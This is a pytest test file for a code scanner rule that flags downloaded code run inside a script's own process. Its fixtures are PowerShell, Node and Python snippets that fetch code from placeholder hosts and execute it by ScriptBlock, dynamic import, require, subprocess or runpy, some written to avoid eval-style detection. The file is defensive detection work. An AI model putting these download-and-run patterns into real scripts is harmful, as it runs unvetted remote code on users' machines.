"""Downloaded code run inside the script's own process: a PowerShell helper whose parameters take their
defaults returns a download that a script block runs; a Node script writes a download to a module file
in a temporary folder and imports it (by its path or its file URL); a Python script writes a download
through ``mkstemp``'s descriptor (``os.write``) and runs the file's path. Each is a download run
unseen, though no ``eval`` or child process is written."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_findings


def _run_errors(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int]]:
    return [
        (f.path.removeprefix("s/"), f.line)
        for f in scan_findings(tmp_path, files)
        if f.rule == "DOWNLOAD_AND_RUN" and f.severity.value == "error"
    ]


def test_a_powershell_helper_called_without_its_defaulted_parameter_returns_the_download(tmp_path: Path) -> None:
    script = (
        "function Read-Extension {\n"
        "    param([string]$Channel = 'stable')\n"
        "    $client = New-Object Net.WebClient\n"
        '    $client.DownloadString("https://ext.vendor-cdn.invalid/$Channel/ext.ps1")\n'
        "}\n"
        "function Start-Tool {\n"
        "    $code = Read-Extension\n"
        "    $block = [ScriptBlock]::Create($code)\n"
        "    . $block\n"
        "}\n"
    )
    assert _run_errors(tmp_path, {"lib/Tool.ps1": script}) == [("lib/Tool.ps1", 9)]


def test_a_powershell_helper_with_defaults_reading_a_local_file_stays_quiet(tmp_path: Path) -> None:
    script = (
        "function Read-Template {\n"
        "    param([string]$Name = 'default')\n"
        '    Get-Content -Raw (Join-Path $PSScriptRoot "$Name.txt")\n'
        "}\n"
        "$text = Read-Template\n"
        "Write-Output $text\n"
    )
    assert not _run_errors(tmp_path, {"lib/Tool.ps1": script})


def test_a_node_module_downloaded_into_a_temporary_folder_and_imported_by_its_file_url(tmp_path: Path) -> None:
    script = (
        "import fs from 'node:fs';\n"
        "import os from 'node:os';\n"
        "import path from 'node:path';\n"
        "import url from 'node:url';\n"
        "const body = await (await fetch('https://plugins.board-tools.invalid/latest.js')).text();\n"
        "const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plug-'));\n"
        "const file = path.join(dir, 'plugin.js');\n"
        "fs.writeFileSync(file, body);\n"
        "const plugin = await import(url.pathToFileURL(file).href);\n"
    )
    assert _run_errors(tmp_path, {"bin/run.mjs": script}) == [("bin/run.mjs", 9)]


def test_a_commonjs_require_of_a_downloaded_module_at_a_run_time_path(tmp_path: Path) -> None:
    script = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "async function load(address) {\n"
        "  const text = await (await fetch(address)).text();\n"
        "  const where = path.join(os.tmpdir(), `ext-${process.pid}`, 'index.cjs');\n"
        "  fs.writeFileSync(where, text);\n"
        "  return require(where);\n"
        "}\n"
        "load('https://ext.other-host.invalid/index.cjs');\n"
    )
    assert _run_errors(tmp_path, {"run.js": script}) == [("run.js", 6)]


def test_a_node_script_importing_its_own_module_beside_a_downloaded_data_file_stays_quiet(tmp_path: Path) -> None:
    script = (
        "import fs from 'node:fs';\n"
        "import os from 'node:os';\n"
        "import path from 'node:path';\n"
        "const body = await (await fetch('https://data.example-stats.invalid/rates.json')).text();\n"
        "fs.writeFileSync(path.join(os.tmpdir(), 'rates.json'), body);\n"
        "const helper = await import(path.join(process.cwd(), 'helper.mjs'));\n"
    )
    assert not _run_errors(tmp_path, {"run.mjs": script})


def test_python_code_written_through_the_mkstemp_descriptor_and_run(tmp_path: Path) -> None:
    script = (
        "import os, subprocess, sys, tempfile\n"
        "import requests\n"
        "def plugin(base, name):\n"
        "    return requests.get(f'{base}/{name}.py', timeout=10).content\n"
        "code = plugin(os.environ.get('PLUGIN_BASE', 'https://plugins.ops-share.invalid'), 'adjust')\n"
        "handle, where = tempfile.mkstemp(suffix='.py')\n"
        "os.write(handle, code)\n"
        "os.close(handle)\n"
        "subprocess.run([sys.executable, where], check=True)\n"
    )
    assert _run_errors(tmp_path, {"scripts/plan.py": script}) == [("scripts/plan.py", 9)]


def test_python_runpy_of_a_download_written_with_os_write(tmp_path: Path) -> None:
    script = (
        "import os, runpy, tempfile, urllib.request\n"
        "blob = urllib.request.urlopen('https://198.51.100.9/x.py').read()\n"
        "fd, name = tempfile.mkstemp(suffix='.py')\n"
        "os.write(fd, blob); os.close(fd)\n"
        "runpy.run_path(name)\n"
    )
    assert _run_errors(tmp_path, {"tool.py": script}) == [("tool.py", 5)]


def test_python_local_text_written_with_os_write_and_run_stays_quiet(tmp_path: Path) -> None:
    script = (
        "import os, runpy, tempfile\n"
        "fd, name = tempfile.mkstemp(suffix='.py')\n"
        "os.write(fd, b'print(1)\\n'); os.close(fd)\n"
        "runpy.run_path(name)\n"
    )
    assert not _run_errors(tmp_path, {"tool.py": script})
